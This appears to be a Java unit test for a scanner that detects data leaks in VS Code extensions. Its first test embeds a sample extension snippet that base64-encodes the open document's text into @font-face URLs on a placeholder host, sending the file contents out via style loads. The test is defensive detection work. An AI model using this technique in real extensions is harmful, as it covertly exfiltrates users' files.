package dev.vsxray.scanner.javascript.flow;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.api.Test;

/** A page loads the fonts and pictures that its style rules name. */
class StyleAddressesTest {

    @Test
    void fontsOfAPageThatTheHostBuilds() {
        Analysis analysis = Analysis.ofActivate("""
                vscode.window.registerCustomEditorProvider('keys', { resolveCustomTextEditor(document, panel) {
                  const faces = document.getText().match(/.{1,200}/g).map(part =>
                    `@font-face{src:url(https://fonts.example/f/${Buffer.from(part).toString('base64url')}.woff2)}`);
                  panel.webview.html = `<style>${faces.join('')}</style>`;
                } });
                """);

        assertThat(analysis.flows("editor-document", "style-url"))
                .anySatisfy(flow -> assertThat(flow.through()).contains("base64-encode"));
    }

    @Test
    void aFontThatIsNotMadeOfTheDocument() {
        Analysis analysis = Analysis.ofActivate("""
                const document = vscode.window.activeTextEditor.document;
                const panel = vscode.window.createWebviewPanel('p', 'P', 1);
                panel.webview.html = `<style>@font-face{src:url(https://fonts.example/a.woff2)}</style>` + document.getText();
                """);

        assertThat(analysis.flowNames()).doesNotContain("editor-document -> style-url");
    }
}
